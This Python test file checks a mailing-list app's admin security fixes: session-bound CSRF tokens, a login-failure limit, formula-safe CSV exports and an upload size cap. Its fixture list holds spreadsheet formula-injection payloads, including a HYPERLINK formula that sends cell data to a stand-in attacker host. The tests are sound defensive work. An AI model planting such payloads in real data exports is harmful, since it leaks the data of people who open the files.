"""Issue 13 in the admin: CSRF tokens bound to the login session, the login limit not
counting successes, formula-safe exports that import back, the configured upload limit."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy import Engine, select

from mailer.config import Settings
from mailer.services.lists import create_list
from mailer.store.db import transaction
from mailer.store.models import Subscriber
from mailer.web.app import create_app
from mailer.web.archive import StaticArchive
from tests.admin.conftest import BASE, EMAILS, PASSWORD, csrf, login

EVIL = ['=HYPERLINK("https://evil.example/?"&A2,"Klicka")', "+46 70 1", "-2+3", "@SUM(1)",
        "\tTabb", "Anna Svensson"]


def _list(engine: Engine) -> None:
    with transaction(engine) as s:
        create_list(s, "medborgardialog", "Nyhetsbrev om medborgardialog")


def test_an_anonymous_csrf_token_is_refused_on_an_admin_post(
        client: TestClient, team: dict[str, int]) -> None:
    anonymous = csrf(client.get("/admin/login").text)  # made before the login
    login(client, EMAILS["admin"])
    r = client.post("/admin/lists", data={"csrf_token": anonymous, "slug": "x", "name": "X"})
    assert r.status_code == 403
    fresh = csrf(client.get("/admin/lists").text)
    r = client.post("/admin/lists", data={"csrf_token": fresh, "slug": "ny-lista",
                                          "name": "Ny lista"})
    assert r.status_code == 303, r.text
    # A token made for one login session is worthless in the next one.
    client.post("/admin/logout", data={"csrf_token": fresh})
    login(client, EMAILS["admin"])
    r = client.post("/admin/lists", data={"csrf_token": fresh, "slug": "y", "name": "Y"})
    assert r.status_code == 403


def test_logins_that_succeed_do_not_use_up_the_limit(client: TestClient,
                                                     team: dict[str, int]) -> None:
    for _ in range(12):  # more than the 10 failures allowed, all successful
        login(client, EMAILS["admin"].upper())
        client.cookies.clear()
    statuses = []
    for n in range(11):  # failures under every spelling of the address share one count
        page = client.get("/admin/login")
        email = EMAILS["admin"].upper() if n % 2 else EMAILS["admin"].title()
        statuses.append(client.post("/admin/login", data={
            "email": email, "password": "wrong wrong", "csrf_token": csrf(page.text)}
            ).status_code)
    assert statuses == [401] * 10 + [429]


def test_exports_neutralise_formulas_and_import_back(client: TestClient,
                                                    team: dict[str, int],
                                                    engine: Engine) -> None:
    _list(engine)
    login(client, EMAILS["coordinator"])
    rows = "".join(f"p{n}@example.org;{name}\n" for n, name in enumerate(EVIL))
    page = client.get("/admin/lists/medborgardialog")
    r = client.post("/admin/lists/medborgardialog/import",
                    data={"csrf_token": csrf(page.text)},
                    files={"file": ("a.csv", f"email;name\n{rows}".encode(), "text/csv")})
    assert r.status_code == 200, r.text
    for excel in ("1", ""):
        out = client.get("/admin/lists/medborgardialog/export.csv", params={"excel": excel})
        table = list(csv.reader(io.StringIO(out.text.lstrip("\ufeff")),
                                delimiter=";" if excel else ","))
        names = [row[1] for row in table[1:]]
        assert all(not n.startswith(("=", "+", "-", "@", "\t")) for n in names), names
        assert "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Klicka\")" in names
        assert "Anna Svensson" in names
    # The export imports again to the same values: the quote comes off.
    with transaction(engine) as s:
        before = sorted(s.scalars(select(Subscriber.name)))
    page = client.get("/admin/lists/medborgardialog")
    client.post("/admin/lists/medborgardialog/import", data={"csrf_token": csrf(page.text)},
                files={"file": ("again.csv", out.content, "text/csv")})
    with transaction(engine) as s:
        assert sorted(s.scalars(select(Subscriber.name))) == before
    assert "=HYPERLINK(\"https://evil.example/?\"&A2,\"Klicka\")" in before


def test_csv_uploads_have_the_configured_limit(settings: Settings, engine: Engine,
                                               team: dict[str, int]) -> None:
    _list(engine)
    app = create_app(settings.model_copy(update={"max_upload_mb": 1}), engine=engine,
                     archive=StaticArchive())
    with TestClient(app, base_url=BASE, follow_redirects=False) as c:
        login(c, EMAILS["coordinator"], PASSWORD)
        page = c.get("/admin/lists/medborgardialog")
        big = b"email;name\n" + b"x@example.org;x\n" * 80_000  # 1.3 MB
        r = c.post("/admin/lists/medborgardialog/import", data={"csrf_token": csrf(page.text)},
                   files={"file": ("big.csv", big, "text/csv")})
        assert r.status_code == 413 and "1 MB" not in r.text  # the page, not the raw reason
        assert "content-security-policy" in r.headers
        small = b"email;name\n" + b"x@example.org;x\n" * 1000
        r = c.post("/admin/lists/medborgardialog/import", data={"csrf_token": csrf(page.text)},
                   files={"file": ("small.csv", small, "text/csv")})
        assert r.status_code in (200, 422), r.text
